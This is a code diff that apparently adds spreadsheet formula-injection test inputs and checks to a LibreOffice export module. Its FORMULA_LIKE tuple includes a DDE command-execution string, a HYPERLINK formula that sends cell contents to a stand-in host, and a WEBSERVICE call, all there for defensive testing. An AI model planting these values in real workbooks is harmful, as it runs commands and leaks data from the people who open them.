@@ -68,3 +68,47 @@ def soffice_convert(source: Path, outdir: Path, target: str, profile: Path) -> l
 
 # every sheet to its own CSV file, UTF-8, formulas as computed results (LibreOffice 7.2+)
 CSV_ALL_SHEETS = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
+
+
+# ---------------------------------------------------------------- text as text in workbooks
+
+# text from other people's files that a spreadsheet would take for a formula, or that breaks a cell
+FORMULA_LIKE = (
+    '=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "=1+1", "=A1*2", "=cmd|' /C calc'!A0", "+1", "-1+2",
+    "@SUM(A1:A3)", "\t=1", "\r=2", "＝1+1", "=", "==", "=WEBSERVICE(\"http://example.invalid\")",
+    "=\x01控制字符", "-", "+", "=" + "长" * 40_000,
+)
+
+
+def workbook_formulas(path: Path) -> list[tuple[str, str, str]]:
+    """Every formula cell of an .xlsx: (sheet part, cell, formula), read from the package's XML itself."""
+    import zipfile
+
+    from lxml import etree
+    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+    found = []
+    with zipfile.ZipFile(path) as package:
+        for name in package.namelist():
+            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
+                root = etree.fromstring(package.read(name))
+                for cell in root.iter(f"{ns}c"):
+                    formula = cell.find(f"{ns}f")
+                    if formula is not None:
+                        found.append((name, cell.get("r"), formula.text or ""))
+    return found
+
+
+def unquoted_formula_like_text(path: Path) -> list[tuple[str, str, str]]:
+    """Text cells that begin like a formula but are not marked as typed text (they turn into formulas when
+    someone edits them): (sheet, cell, text)."""
+    from openpyxl import load_workbook
+
+    from exporters.sheet_text import sheet_text
+    found = []
+    workbook = load_workbook(path)
+    for ws in workbook.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "s" and sheet_text(str(cell.value)).quoted and not cell.quotePrefix:
+                    found.append((ws.title, cell.coordinate, cell.value[:40]))
+    return found
